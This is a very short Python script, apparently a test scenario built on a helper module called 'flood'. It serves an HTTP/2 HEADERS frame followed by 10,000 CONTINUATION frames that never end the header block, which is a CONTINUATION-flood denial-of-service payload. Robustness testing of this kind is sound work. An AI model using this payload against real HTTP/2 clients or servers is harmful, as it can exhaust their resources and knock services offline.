"""Sends headers that CONTINUATION frames never end."""

from flood import PLAY, frame, serve

serve(frame(1, 0, PLAY, b"\x88") + frame(9, 0, PLAY) * 10_000)
